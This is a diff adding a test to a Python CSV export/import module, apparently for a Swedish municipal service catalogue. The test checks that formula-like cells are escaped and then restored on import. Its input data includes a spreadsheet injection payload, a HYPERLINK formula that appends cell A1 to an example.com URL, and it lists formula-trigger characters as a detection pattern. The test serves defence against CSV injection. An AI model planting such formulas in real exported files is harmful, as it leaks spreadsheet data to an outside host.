@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import json
+import re
 import tempfile
 from pathlib import Path
 from typing import Any, cast
@@ -323,3 +324,21 @@ def test_a_row_with_too_many_fields_is_reported_and_blank_lines_are_not(package:
     assert problems_of(package) == {("contacts.csv", 1, None)}
     _write_records(package / "contacts.csv", [header, *rows[1:], [], []])
     assert read_package(package) != CATALOGUE  # the first contact is gone, the blank lines are ignored
+
+
+def test_no_cell_of_an_export_is_a_formula_and_the_import_restores_them(tmp_path: Path) -> None:
+    formula = '=HYPERLINK("https://example.com/?"&A1,"Klicka")'
+    organization = msgspec.structs.replace(ORG_A, name=formula, alternate_name="@SUM(1+1)")
+    service = msgspec.structs.replace(SERVICE_A1, name="-2+3", description="'=redan skyddad")
+    catalogue = (PackageOrganization("kommun-1480", organization, (service,)),)
+    write_package(tmp_path, catalogue, include_internal=True)
+
+    cells = [cell for file in tmp_path.glob("*.csv") for record in _records(file) for cell in record]
+    assert f"'{formula}" in cells
+    assert "'@SUM(1+1)" in cells
+    assert "'-2+3" in cells
+    assert "''=redan skyddad" in cells
+    assert any(cell.startswith("'+46") for cell in cells)  # phone numbers in international form
+    formulas = [cell for cell in cells if cell[:1] in {"=", "+", "-", "@", "\t", "\r"}]
+    assert [cell for cell in formulas if not re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", cell)] == []
+    assert read_package(tmp_path) == catalogue
